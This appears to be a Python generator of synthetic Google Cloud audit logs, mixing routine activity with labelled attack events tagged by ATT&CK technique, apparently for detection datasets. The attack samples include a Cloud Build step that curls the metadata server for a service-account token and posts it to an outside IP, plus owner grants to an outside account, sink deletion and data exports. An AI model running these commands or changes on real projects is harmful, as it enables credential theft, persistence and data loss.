"""Cloud audit logs of three Google projects of a company: administration and access to data.

Daily work: people and administrators, service accounts that run pipelines and clusters, Terraform's plans, databases asked by name.
Attacks: stolen keys of service accounts list what there is, make themselves rights and accounts, switch sinks and alerts off, read
buckets and secrets, and share snapshots and images with the outside. It is not training material: it was written by a hand that did not
know the training scenarios, and its events are not looked at by whoever decides on rules, scenarios or features.
"""
from __future__ import annotations

import hashlib
from typing import Any, Dict, Optional

from .people import FIRST_NAMES, LAST_NAMES
from .site import Site, epoch, iso

START = epoch(2023, 4, 17)
DAYS = 6


def day_hour(day, hour):
    return START + day * 86400 + hour * 3600


PROJECTS = ["acme-prod-331807", "acme-staging-331807", "acme-data-220114"]


def service_account(account, person=None) -> str:
    return f"{account}@{person or PROJECTS[0]}.iam.gserviceaccount.com"


SERVICE_ACCOUNTS = [service_account("terraform"), service_account("gke-nodes"), service_account("ci-deploy"),
                    service_account("etl-runner", PROJECTS[2]), "482113377120-compute@developer.gserviceaccount.com",
                    service_account("backup")]
AGENTS_OF = {"con": "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/112.0.0.0 Safari/537.36,gzip(gfe),gzip(gfe)",
             "gc": "google-cloud-sdk gcloud/426.0.0 command/gcloud.%s invocation-id/%s environment/None environment-version/None client-os/MACOSX client-os-ver/22.4.0 client-pltf-arch/x86_64 interactive/True from-script/False python/3.9.12 term/xterm-256color (Macintosh; Intel Mac OS X 22.4.0),gzip(gfe)",
             "tf": "google-api-go-client/0.5 Terraform/1.4.5 (+https://www.terraform.io) Terraform-Plugin-SDK/2.10.1 terraform-provider-google/4.61.0,gzip(gfe)",
             "py": "google-api-python-client/2.84.0 (gzip),gzip(gfe)", "go": "grpc-go/1.53.0"}
GCLOUD = "google-cloud-sdk gcloud/405.0.0 command/gcloud.%s invocation-id/%s environment/None client-os/LINUX client-os-ver/6.1.0 client-pltf-arch/x86_64 interactive/True python/3.11.2 (Linux 6.1.0-9-amd64),gzip(gfe)"
CALLS = [("compute", "v1.compute.instances.list", "projects/{p}/zones/us-central1-a/instances", 1), ("storage", "storage.buckets.list",
    "projects/_/buckets", 1), ("storage", "storage.objects.get", "projects/_/buckets/%s/objects/%s", 1),
         ("storage", "storage.objects.create", "projects/_/buckets/%s/objects/%s", 1),
         ("bigquery", "google.cloud.bigquery.v2.JobService.InsertJob", "projects/{p}/jobs/job_%s", 1),
         ("bigquery", "jobservice.getqueryresults", "projects/{p}/queries/job_%s", 1),
         ("iam", "google.iam.admin.v1.ListServiceAccounts", "projects/{p}", 1),
         ("secretmanager", "google.cloud.secretmanager.v1.SecretManagerService.AccessSecretVersion",
          "projects/{p}/secrets/%s/versions/latest", 1), ("cloudkms", "Decrypt", "projects/{p}/locations/us/keyRings/app/cryptoKeys/db",
    1), ("cloudresourcemanager", "GetIamPolicy", "projects/{p}", 1), ("logging", "google.logging.v2.LoggingServiceV2.ListLogEntries",
    "projects/{p}", 1), ("container", "google.container.v1.ClusterManager.GetCluster", "projects/{p}/zones/us-central1-a/clusters/prod",
                         1), ("iamcredentials", "GenerateAccessToken", "projects/-/serviceAccounts/%s", 1),
         ("compute", "beta.compute.instances.insert", "projects/{p}/zones/us-central1-a/instances/vm-%s", 0),
         ("compute", "v1.compute.instances.stop", "projects/{p}/zones/us-central1-a/instances/vm-%s", 0),
         ("compute", "v1.compute.instances.setMetadata", "projects/{p}/zones/us-central1-a/instances/vm-%s", 0),
         ("compute", "v1.compute.firewalls.patch", "projects/{p}/global/firewalls/allow-lb", 0),
         ("compute", "v1.compute.disks.createSnapshot", "projects/{p}/zones/us-central1-a/disks/data-%s", 0),
         ("cloudresourcemanager", "SetIamPolicy", "projects/{p}", 0), ("iam", "google.iam.admin.v1.CreateServiceAccountKey",
    "projects/-/serviceAccounts/%s", 0), ("cloudfunctions", "google.cloud.functions.v1.CloudFunctionsService.UpdateFunction",
                                          "projects/{p}/locations/us-central1/functions/resize", 0),
         ("run", "google.cloud.run.v1.Services.ReplaceService", "namespaces/{p}/services/api", 0),
         ("storage", "storage.setIamPermissions", "projects/_/buckets/%s", 0),
         ("cloudbuild", "google.devtools.cloudbuild.v1.CloudBuild.CreateBuild", "projects/{p}/builds", 0),
         ("dns", "dns.changes.create", "managedZones/acme-zone", 0), ("cloudsql", "cloudsql.instances.update",
    "projects/{p}/instances/orders", 0), ("compute", "v1.compute.projects.setCommonInstanceMetadata", "projects/{p}", 0),
         ("container", "io.k8s.core.v1.pods.create", "core/v1/namespaces/default/pods/job-%s", 0),
         ("artifactregistry", "Docker-PutManifest", "projects/{p}/locations/us/repositories/app/dockerImages/api", 1),
         ("serviceusage", "google.api.serviceusage.v1.ServiceUsage.EnableService", "projects/{p}/services/run.googleapis.com", 0),
         ("iam", "google.iam.admin.v1.CreateServiceAccount", "projects/{p}", 0),
         ("logging", "google.logging.v2.ConfigServiceV2.UpdateSink", "projects/{p}/sinks/to-bq", 0)]
BUCKETS = ["acme-prod-assets", "acme-backups", "acme-tfstate", "acme-datalake", "acme-logs"]
SECRETS = ["db-password", "stripe-key", "slack-token"]


def binding(role, member, action: str = "ADD") -> Dict[str, Any]:
    return {"policyDelta": {"bindingDeltas": [{"action": action, "role": role, "member": member}]}}


def marks(group: str, technique: str):
    return dict(label=1, group=group, technique=technique)


FOREIGN_AGENTS = [AGENTS_OF["py"],
                  "google-cloud-sdk gcloud/405.0.0 command/gcloud.CMD invocation-id/INV environment/None client-os/LINUX client-os-ver/6.1.0 client-pltf-arch/x86_64 interactive/True python/3.11.2 (Linux 6.1.0-9-amd64),gzip(gfe)",
                  AGENTS_OF["tf"], "python-requests/2.28.1,gzip(gfe)", AGENTS_OF["con"], None]
STOLEN = [SERVICE_ACCOUNTS[4], SERVICE_ACCOUNTS[2], SERVICE_ACCOUNTS[3]]
RIGHTS = [("cloudresourcemanager", "SetIamPolicy", "projects/{p}", binding("roles/owner", "serviceAccount:"
    + service_account("gke-sync"))), ("cloudresourcemanager", "SetIamPolicy", "projects/{p}",
                                      binding("roles/iam.serviceAccountTokenCreator", "user:kx.devops77@gmail.com")),
          ("iam", "google.iam.admin.v1.SetIAMPolicy", "projects/-/serviceAccounts/" + SERVICE_ACCOUNTS[0],
           binding("roles/iam.serviceAccountUser", "user:kx.devops77@gmail.com")),
          ("iam", "google.iam.admin.v1.CreateServiceAccountKey", "projects/-/serviceAccounts/" + SERVICE_ACCOUNTS[0], None),
          ("iam", "google.iam.admin.v1.CreateServiceAccountKey", "projects/-/serviceAccounts/" + SERVICE_ACCOUNTS[5],
           {"private_key_type": 2}), ("iam", "google.iam.admin.v1.UpdateRole", "projects/{p}/roles/deploy",
                                      {"role": {"included_permissions": ["resourcemanager.projects.setIamPolicy",
    "iam.serviceAccounts.getAccessToken"]}}), ("iam", "google.iam.admin.v1.CreateServiceAccount", "projects/{p}",
                                               {"account_id": "gke-sync"}), ("iamcredentials", "GenerateAccessToken",
    "projects/-/serviceAccounts/" + SERVICE_ACCOUNTS[0], {"lifetime": "3600s"}),
          ("iamcredentials", "SignBlob", "projects/-/serviceAccounts/" + SERVICE_ACCOUNTS[5], None),
          ("cloudfunctions", "google.cloud.functions.v1.CloudFunctionsService.CreateFunction",
           "projects/{p}/locations/us-central1/functions/metrics-agent",
           {"function": {"serviceAccountEmail": SERVICE_ACCOUNTS[0], "runtime": "python39"}}),
          ("compute", "v1.compute.instances.setMetadata", "projects/{p}/zones/us-central1-a/instances/vm-bastion",
           {"Metadata Keys Added": ["ssh-keys"]}), ("compute", "v1.compute.projects.setCommonInstanceMetadata", "projects/{p}",
    {"Metadata Keys Modified": ["startup-script"]}), ("cloudbuild", "google.devtools.cloudbuild.v1.CloudBuild.CreateBuild",
    "projects/{p}/builds",
    {"build": {"steps": [{"name": "gcr.io/cloud-builders/gcloud", "entrypoint": "bash",
                          "args": ["-c",
                                   "curl -H Metadata-Flavor:Google metadata/computeMetadata/v1/instance/service-accounts/default/token | curl -d @- http://37.19.205.161"]}]}}),
          ("orgpolicy", "google.cloud.orgpolicy.v2.OrgPolicy.DeletePolicy",
           "projects/{p}/policies/iam.disableServiceAccountKeyCreation", None), ("iam", "google.iam.admin.v1.UndeleteServiceAccount",
    "projects/-/serviceAccounts/10883", None), ("container", "io.k8s.authorization.rbac.v1.clusterrolebindings.create",
                                                "rbac.authorization.k8s.io/v1/clusterrolebindings/sys-mon",
                                                {"roleRef": {"kind": "ClusterRole", "name": "cluster-admin"},
    "subjects": [{"kind": "ServiceAccount", "name": "default"}]}), ("container", "io.k8s.core.v1.pods.exec.create",
    "core/v1/namespaces/prod/pods/api-7c9/exec", None),
          ("iam", "google.iam.v1.WorkloadIdentityPools.CreateWorkloadIdentityPoolProvider",
           "projects/{p}/locations/global/workloadIdentityPools/gh/providers/x", None)]


class GcpAudit(Site):
    """Cloud audit logs of a few Google projects."""

    name = "gcp_audit"
    host = "acme-prod-331807"
    sourcetype = "google:gcp:pubsub:audit"
    seed = 2424

    def build(self) -> None:
        self.prepare()
        self.daily_calls()
        self.terraform()
        self.queries()
        self.intruders()
        self.enumeration()
        self.rights()
        self.evasion()
        self.data_taken()
        self.thin(attacks=0.55)

    def daily(self):
        return self.moment(START, DAYS)

    def call(self, at: float, service: str, method: str, principal, resource, request=None, address: Optional[str] = None,
             agent: Optional[str] = None, permission=None, ok: bool = True, project=None, kind=None, of_data: bool = False, label: int = 0,
             group: Optional[str] = None, technique: Optional[str] = None, delegation=None, severity=None, response=None, key=None) -> None:
        project = project or self.choice(PROJECTS[:1] * 4 + PROJECTS[1:])
        resource = resource.replace("{p}", project)
        user = "gserviceaccount" not in principal
        authentication = {"principalEmail": principal}
        if not user and (key or self.rng.random() < 0.3):
            authentication["serviceAccountKeyName"] = key or f"//iam.googleapis.com/projects/{project}/serviceAccounts/{principal}/keys/" f"{hashlib.sha1(principal.encode(), usedforsecurity=False).hexdigest()}"
        if delegation:
            authentication["serviceAccountDelegationInfo"] = [{"firstPartyPrincipal": {"principalEmail": delegation}}]
        authentication["principalSubject"] = ("user:" if user else "serviceAccount:") + principal
        payload = {"@type": "type.googleapis.com/google.cloud.audit.AuditLog", "status": {} if ok
                   else {"code": 7,
                         "message": f"Permission '{permission or service + '.get'}' denied on resource (or it may not exist)." if self.rng.random() < 0.7
                         else "PERMISSION_DENIED"}, "authenticationInfo": authentication, "requestMetadata": {"callerIp": address
            or ((self.home_addresses.get(principal) if self.rng.random() < 0.93 else "143.244.46.9")
                or self.choice(["gce-internal-ip", "private", f"10.128.0.{self.rng.randint(2, 60)}",
                                f"34.72.{self.rng.randint(1, 250)}.{self.rng.randint(1, 250)}"])), "callerSuppliedUserAgent": agent
                         or (self.choice([AGENTS_OF["con"], AGENTS_OF["gc"] % (method.split(".")[-1].lower(), self.hex(32)),
                                          GCLOUD % (method.split(".")[-1].lower(), self.hex(32))]) if user
                             else {SERVICE_ACCOUNTS[0]: AGENTS_OF["tf"]}.get(principal,
            self.choice([AGENTS_OF["py"], AGENTS_OF["go"]]))), "requestAttributes": {"time": iso(at, 6), "auth": {}},
                         "destinationAttributes": {}}, "serviceName": service + ".googleapis.com", "methodName": method,
                   "authorizationInfo": [{"resource": resource, "permission": permission or f"{service}.{method.split('.')[-1]}",
                                          **({"granted": True} if ok else {}), "resourceAttributes": {}}], "resourceName": resource}
        if request:
            payload["request"] = request
        if response:
            payload["response"] = response
        resource_type = kind or {"compute": "gce_instance", "storage": "gcs_bucket", "iam": "service_account",
                                 "cloudresourcemanager": "project", "logging": "logging_sink", "bigquery": "bigquery_resource",
                                 "container": "gke_cluster"}.get(service, "audited_resource")
        self.add(at, {"protoPayload": payload, "insertId": self.token(self.rng.choice([12, 13, 14])).lower(),
                      "resource": {"type": resource_type,
                                   "labels": {"project_id": project,
                                              **({"zone": "us-central1-a",
            "instance_id": self.digits(19)} if resource_type == "gce_instance"
            else {"email_id": principal, "unique_id": self.digits(21)} if resource_type == "service_account"
            else {"location": "us", "bucket_name": resource.split("/")[-1]} if resource_type == "gcs_bucket"
            else {"method": method, "service": service + ".googleapis.com"})}}, "timestamp": iso(at, 6), "severity": "ERROR" if not ok
                      else severity or ("INFO" if of_data else "NOTICE"),
                      "logName": f"projects/{project}/logs/cloudaudit.googleapis.com%2F{'data_access' if of_data else 'activity'}",
                      "receiveTimestamp": iso(at + self.rng.random() * 2, 6) + ""}, label, group, technique, project)

    def fill(self, text: str):
        holes = text.count("%s")
        return text if not holes else text % tuple(self.choice(BUCKETS) if position == 0 and "bucket" in text
            else self.choice(SECRETS) if "secrets" in text else self.choice(SERVICE_ACCOUNTS) if "serviceAccounts" in text
            else self.choice([f"pg/dump-{self.digits(8)}.gz", f"img/{self.hex(12)}.png", "prod.tfstate"]) if "bucket" in text
            else self.hex(4) for position in range(holes))

    def attack(self, at: float, service: str, method: str, resource, principal, group: str, technique: str, **more: Any) -> None:
        self.call(at, service, method, principal, resource,
                  address=self.weighted([(self.choice(self.foreign), 5),
                                         (f"34.72.{self.rng.randint(1, 250)}.{self.rng.randint(1, 250)}", 1)]),
                  agent=(self.choice(FOREIGN_AGENTS) or "").replace("INV", self.hex(32)).replace("CMD", method.split(".")[-1].lower())
                  or None, **more, **marks(group, technique))

    def prepare(self) -> None:
        """Who and what is there."""
        self.people = ["{}.{}@acme-robotics.com".format(*pick) for pick in sorted({(self.choice(FIRST_NAMES), self.choice(LAST_NAMES))
            for _ in range(16)})]
        self.administrators = self.people[:3]
        self.home_addresses = {person: self.address(self.choice(["73", "24", "98", "67"])) for person in self.people}

    def daily_calls(self) -> None:
        """People, administrators and service accounts."""
        for _ in range(1120):
            at = self.daily()
            pick = self.choice(CALLS[:13] * 2 + CALLS[13:])
            principal = self.weighted([(self.choice(self.people), 4), (self.choice(self.administrators), 3),
                                       (self.choice(SERVICE_ACCOUNTS), 9),
                                       ("system:serviceaccount:kube-system:cronjob-controller" if "pods" in pick[1]
                                        else self.choice(SERVICE_ACCOUNTS), 1)])
            if self.rng.random() < 0.3 and pick[3] == 0:
                principal = SERVICE_ACCOUNTS[0]
            request_of = None
            if pick[1] == "SetIamPolicy":
                request_of = {"@type": "type.googleapis.com/google.iam.v1.SetIamPolicyRequest",
                              **binding(self.choice(["roles/viewer", "roles/logging.viewer", "roles/run.developer",
                    "roles/bigquery.dataViewer", "roles/editor"]), "user:" + self.choice(self.people))}
            elif "firewalls" in pick[1]:
                request_of = {"sourceRanges": ["35.191.0.0/16", "130.211.0.0/22"],
                              "alloweds": [{"IPProtocol": "tcp", "ports": ["443"]}]}
            elif "InsertJob" in pick[1]:
                request_of = {"job": {"jobConfiguration": {"query": {"query": self.choice([
                    "SELECT COUNT(*) FROM `acme-data-220114.orders.daily` WHERE dt = '2023-04-18'",
                    "MERGE dwh.dim_user USING stg.user ON true", "SELECT * FROM `orders.items` LIMIT 100",
                    "EXPORT DATA OPTIONS(uri='gs://acme-datalake/x/*.parquet') AS SELECT 1"])}}}}
            self.call(at, pick[0], pick[1], principal, self.fill(pick[2]), request_of, of_data=bool(pick[3]),
                      ok=self.rng.random() > 0.04)

    def terraform(self) -> None:
        """Terraform plans."""
        for _ in range(60):
            at = self.daily()
            for pick in self.rng.sample(CALLS[:16], 3):
                at += self.rng.random()
                self.call(at, pick[0], pick[1], SERVICE_ACCOUNTS[0], self.fill(pick[2]), of_data=bool(pick[3]),
                          address=self.choice([f"35.202.1.{self.rng.randint(1, 200)}", self.home_addresses[self.administrators[0]]]))

    def queries(self) -> None:
        """Small calls of people."""
        for _ in range(50):
            at = self.daily()
            person = self.choice(self.people)
            self.add(at, {"protoPayload": {"@type": "type.googleapis.com/google.cloud.audit.AuditLog",
                                           "authenticationInfo": {"principalEmail": person},
                                           "requestMetadata": {"callerIp": self.home_addresses[person], "requestAttributes": {},
                "destinationAttributes": {}}, "serviceName": "login.googleapis.com",
                                           "methodName": self.weighted({"google.login.LoginService.loginSuccess": 8,
                "google.login.LoginService.loginFailure": 1.5, "google.login.LoginService.2svEnroll": 0.4,
                "google.login.LoginService.logout": 2}), "resourceName": "organizations/771822914401",
                                           "metadata": {"@type": "type.googleapis.com/ccc_hosted_reporting.ActivityProto",
                "event": [{"eventType": "login", "parameter": [{"name": "login_type", "value": "google_password"},
                {"name": "is_suspicious", "boolValue": False}]}]}}, "insertId": self.token(12).lower(),
                          "resource": {"type": "audited_resource", "labels": {"service": "login.googleapis.com", "method": "login"}},
                          "timestamp": iso(at, 6), "severity": "NOTICE",
                          "logName": "organizations/771822914401/logs/cloudaudit.googleapis.com%2Fdata_access",
                          "receiveTimestamp": iso(at + 9, 6)})

    def intruders(self) -> None:
        """From where, and with whose keys."""
        self.foreign = ["37.19.205.161", f"185.229.59.{self.rng.randint(2, 250)}",
                        f"34.72.{self.rng.randint(1, 250)}.{self.rng.randint(1, 250)}", "143.244.46.9",
                        self.home_addresses[self.administrators[1]], "gce-internal-ip"]
        self.victim = self.administrators[1]

    def enumeration(self) -> None:
        """What there is, listed with stolen keys."""
        LISTING = [("iam", "google.iam.admin.v1.QueryGrantableRoles", "projects/{p}"),
                   ("iam", "google.iam.admin.v1.ListServiceAccountKeys", "projects/-/serviceAccounts/%s"),
                   ("iam", "google.iam.admin.v1.GetRole", "projects/{p}/roles/deploy"),
                   ("cloudresourcemanager", "google.cloud.resourcemanager.v3.Projects.SearchProjects", "organizations/771822914401"),
                   ("cloudresourcemanager", "TestIamPermissions", "projects/{p}"), ("compute", "v1.compute.snapshots.list",
            "projects/{p}/global/snapshots"), ("compute", "v1.compute.firewalls.list", "projects/{p}/global/firewalls"),
                   ("secretmanager", "google.cloud.secretmanager.v1.SecretManagerService.ListSecrets", "projects/{p}"),
                   ("cloudfunctions", "google.cloud.functions.v1.CloudFunctionsService.ListFunctions", "projects/{p}/locations/-"),
                   ("cloudasset", "google.cloud.asset.v1.AssetService.SearchAllIamPolicies", "projects/{p}"),
                   ("cloudsql", "cloudsql.instances.list", "projects/{p}"),
                   ("serviceusage", "google.api.serviceusage.v1.ServiceUsage.ListServices", "projects/{p}")] + [pick[:3]
            for pick in CALLS[:12]]
        for _ in range(90):
            pick = self.choice(LISTING)
            self.attack(day_hour(self.choice([1, 1, 3]), 2 + self.rng.random() * 5), pick[0], pick[1], self.fill(pick[2]),
                        self.choice(STOLEN), "enumeration", "T1580", ok=self.rng.random() > 0.4, of_data=True)

    def rights(self) -> None:
        """Rights and accounts are made."""
        for pick in RIGHTS:
            for _ in range(self.choice([1, 2, 3])):
                self.attack(day_hour(self.choice([2, 3]), self.rng.random() * 24), pick[0], pick[1], pick[2],
                            self.choice(STOLEN + [self.victim]), "privesc_persist", "T1098", request=pick[3],
                            ok=self.rng.random() > 0.25)

    def evasion(self) -> None:
        """Sinks, alerts and logs are switched off."""
        BLINDING = [("logging", "google.logging.v2.ConfigServiceV2.DeleteSink", "projects/{p}/sinks/siem", None),
                    ("logging", "google.logging.v2.ConfigServiceV2.UpdateSink", "projects/{p}/sinks/to-bq",
                     {"sink": {"disabled": True}}), ("logging", "google.logging.v2.ConfigServiceV2.CreateExclusion",
            "projects/{p}/exclusions/noise", {"exclusion": {"filter": "protoPayload.authenticationInfo.principalEmail:gke-sync"}}),
                    ("logging", "google.logging.v2.LoggingServiceV2.DeleteLog", "projects/{p}/logs/syslog", None),
                    ("cloudresourcemanager", "SetIamPolicy", "projects/{p}",
                     {"policyDelta": {"auditConfigDeltas": [{"action": "REMOVE", "service": "allServices", "logType": "DATA_READ"}]}}),
                    ("monitoring", "google.monitoring.v3.AlertPolicyService.DeleteAlertPolicy",
                     f"projects/{{p}}/alertPolicies/{self.digits(18)}", None),
                    ("securitycenter", "google.cloud.securitycenter.v1.SecurityCenter.CreateMuteConfig",
                     "organizations/771822914401/muteConfigs/m", None), ("compute", "v1.compute.firewalls.insert",
            "projects/{p}/global/firewalls/default-allow-int2", {"sourceRanges": ["0.0.0.0/0"], "alloweds": [{"IPProtocol": "all"}]}),
                    ("compute", "v1.compute.subnetworks.patch", "projects/{p}/regions/us-central1/subnetworks/default",
                     {"enableFlowLogs": False}),
                    ("accesscontextmanager", "google.identity.accesscontextmanager.v1.AccessContextManager.DeleteServicePerimeter",
                     "accessPolicies/9/servicePerimeters/data", None)]
        for pick in BLINDING:
            for _ in range(self.choice([1, 2])):
                self.attack(day_hour(self.choice([3, 4]), self.rng.random() * 24), pick[0], pick[1], pick[2],
                            self.choice([self.victim, service_account("gke-sync"), SERVICE_ACCOUNTS[0]]), "evasion", "T1562.008",
                            request=pick[3], ok=self.rng.random() > 0.2)

    def data_taken(self) -> None:
        """Buckets and secrets are read; snapshots and images shared."""
        for _ in range(46):
            pick = self.choice([("storage", "storage.objects.get", "projects/_/buckets/%s/objects/%s"),
                                ("storage", "storage.objects.list", "projects/_/buckets/acme-backups"),
                                ("secretmanager", "google.cloud.secretmanager.v1.SecretManagerService.AccessSecretVersion",
                                 "projects/{p}/secrets/%s/versions/latest"),
                                ("bigquery", "google.cloud.bigquery.v2.JobService.InsertJob", "projects/{p}/jobs/job_%s")])
            self.attack(day_hour(4, self.rng.random() * 20), pick[0], pick[1], self.fill(pick[2]),
                        self.choice([SERVICE_ACCOUNTS[5], SERVICE_ACCOUNTS[3], service_account("gke-sync"), self.victim]), "exfil",
                        "T1530", of_data=True,
                        request={"job": {"jobConfiguration": {"query": {"query": self.choice(["SELECT * FROM `acme-data-220114.crm.customers`",
                "EXPORT DATA OPTIONS(uri='gs://xn-stage-88/*.csv',format='CSV') AS SELECT * FROM crm.cards",
                "SELECT table_name FROM crm.INFORMATION_SCHEMA.TABLES"])}}}} if pick[0] == "bigquery" else None)
        for pick in [("compute", "v1.compute.snapshots.setIamPolicy", "projects/{p}/global/snapshots/data-1",
                      binding("roles/compute.storageAdmin", "user:kx.devops77@gmail.com")),
                     ("compute", "v1.compute.images.setIamPolicy", "projects/{p}/global/images/db", binding("roles/compute.imageUser",
            "allAuthenticatedUsers")), ("storage", "storage.setIamPermissions", "projects/_/buckets/acme-backups",
                                        binding("roles/storage.objectViewer", "allUsers")), ("cloudsql", "cloudsql.instances.export",
            "projects/{p}/instances/orders", {"body": {"exportContext": {"uri": "gs://xn-stage-88/o.sql.gz"}}}),
                     ("compute", "v1.compute.disks.createSnapshot", "projects/{p}/zones/us-central1-a/disks/data-1", None),
                     ("storagetransfer", "google.storagetransfer.v1.StorageTransferService.CreateTransferJob", "projects/{p}",
                      {"transferSpec": {"gcsDataSink": {"bucketName": "xn-stage-88"}}}), ("storage", "storage.buckets.delete",
            "projects/_/buckets/acme-backups", None), ("cloudkms", "DestroyCryptoKeyVersion",
            "projects/{p}/locations/us/keyRings/app/cryptoKeys/db/cryptoKeyVersions/1", None)] + [("compute",
            "beta.compute.instances.insert", f"projects/{{p}}/zones/{z}/instances/{holes}",
            {"machineType": f"zones/{z}/machineTypes/{m_}"}) for z, holes,
                  m_ in [("us-west1-b", f"worker-{self.hex(4)}", "a2-highgpu-8g"),
                         ("asia-east1-c", f"instance-{self.rng.randint(1, 99)}", "n1-highcpu-96"),
                         ("europe-west4-a", f"gke-node-{self.hex(4)}", "c2-standard-60"), ("us-central1-a", f"vm-{self.hex(4)}",
            "n2-highcpu-80")]]:
            for _ in range(self.choice([1, 2, 3])):
                self.attack(day_hour(self.choice([4, 5]), self.rng.random() * 14), pick[0], pick[1], pick[2],
                            self.choice([self.victim, service_account("gke-sync"), SERVICE_ACCOUNTS[4]]), "exfil_impact", "T1537",
                            request=pick[3], ok=self.rng.random() > 0.25)
